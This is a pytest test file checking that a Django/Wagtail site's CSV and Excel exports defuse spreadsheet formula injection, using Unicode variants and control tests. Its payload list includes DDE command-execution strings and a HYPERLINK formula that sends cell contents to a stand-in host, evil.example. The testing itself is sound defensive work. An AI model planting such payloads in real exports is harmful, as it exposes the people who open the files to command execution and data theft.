"""Text that a spreadsheet would run, in every file that this site makes of its rows."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from i18nfield.strings import LazyI18nString

from participants.models import Organisation
from reporting import rendering
from safeguarding import audit, cells
from safeguarding.models import Helpline
from tests.factories import UserFactory

FORMULAS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    "%calc",
]
RUN = set("=+-@|%\t\r\n＝＋－＠｜％")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_that_begins_with_an_apostrophe(text):
    assert cells.plain(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", [None, 0, -5, 1.5, True, dt.date(2026, 3, 2), "", "Olena", "-5", "-1.5", "a=b", "Львів"]
)
def test_what_is_no_formula_stays(value):
    assert cells.plain(value) == value


def test_a_telephone_keeps_its_plus():
    assert cells.plain("+380671112233") == "'+380671112233"


@given(st.text())
def test_whatever_is_written_no_cell_begins_as_a_formula(text):
    made = cells.plain(text).lstrip(" \ufeff\u200b")
    assert not made or made[0] not in RUN or (made[0] == "-" and float(made) is not None)


def rows_of(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def formulas_in(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def exported(client, address, kind):
    answer = client.get(address, {"export": kind})
    assert answer.status_code == 200
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def assert_harmless(client, address):
    """The listing's exports, of which at least one cell would be a formula."""
    rows = rows_of(exported(client, address, "csv"))
    assert [cell for row in rows for cell in row if cell and cell[0] in RUN and not cell[1:].isdigit()] == []
    assert [cell for row in rows for cell in row if cell.startswith("'=")] != []
    assert formulas_in(exported(client, address, "xlsx")) == []


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=cmd|'/C calc'!A0", "＝1+1"])
def test_listings_of_ours(admin_client, site_tree, text):
    Organisation.objects.create(code="=1+1", label=LazyI18nString({"en": text}), country="UA")
    Helpline.objects.create(country="UA", number="=1+1", name=LazyI18nString({"en": text}))
    for address in ("/admin/training/organisation/", "/admin/training/helpline/"):
        assert_harmless(admin_client, address)


@pytest.mark.django_db
def test_the_audit_log(admin_client, site_tree):
    audit.record(UserFactory(), "=1+1", "certificate", ["=1+1"], reason='=HYPERLINK("https://evil.example")')
    assert_harmless(admin_client, "/admin/training/auditentry/")


@pytest.mark.django_db
def test_listings_of_wagtail(admin_client, site_tree):
    page = site_tree.root_page
    page.title = "=1+1"
    page.save_revision().publish()
    assert_harmless(admin_client, "/admin/reports/aging-pages/")


@pytest.mark.django_db
def test_wagtails_own_files_would_run_without_our_word(admin_client, site_tree):
    """The control: what the test above finds harmless is so by one entry of ours."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    page = site_tree.root_page
    page.title = "=1+1"
    page.save_revision().publish()
    with pytest.MonkeyPatch.context() as patch:
        patch.delitem(SpreadsheetExportMixin.custom_value_preprocess, object)
        rows = rows_of(exported(admin_client, "/admin/reports/aging-pages/", "csv"))
    assert "=1+1" in [cell for row in rows for cell in row]


class Report:
    """As much of a report as its files are made of, with formulas wherever a name of somebody's may stand."""

    by = ("area", "category")
    cells = [
        {"area": "=1+1", "category": "@SUM(1)", "unique_persons": 5, "participations": None, "person_minutes": 60},
        {"area": "＝1+1", "category": "\t=1", "unique_persons": 7, "participations": 9, "person_minutes": 0},
    ]
    overlapping = [{"activity": "=1+1", "value": 1, "qualifier": "", "unit": "persons", "from": "", "to": ""}]
    missing_numbers = ["=1+1"]

    class window:
        start, end = dt.date(2022, 7, 1), dt.date(2022, 9, 30)

    totals = {
        **dict.fromkeys(rendering._PLAIN_TOTALS, 1),
        "headcount": {"value": 1, "qualifier": ""},
        "other_counts": [],
        "follow_ups": [{"kind": "=1+1", "value": 1}],
        "distributions": [{"item": "=1+1", "unit": "x", "value": 1, "qualifier": ""}],
    }


def test_people_trained_as_csv():
    rows = list(csv.reader(io.StringIO(rendering.as_csv(Report()))))
    assert rows[1:] == [["'=1+1", "'@SUM(1)", "5", "", "60"], ["'＝1+1", "'\t=1", "7", "9", "0"]]


def test_people_trained_as_a_workbook():
    content = rendering.as_xlsx(Report())
    assert formulas_in(content) == []
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert (book.worksheets[0]["A2"].value, book.worksheets[0]["C2"].value) == ("=1+1", 5)


def test_a_workbook_that_is_written_carelessly_has_formulas():
    """The control: the reader that the tests above use sees them."""
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    out = io.BytesIO()
    book.save(out)
    assert formulas_in(out.getvalue()) == ["A1"]
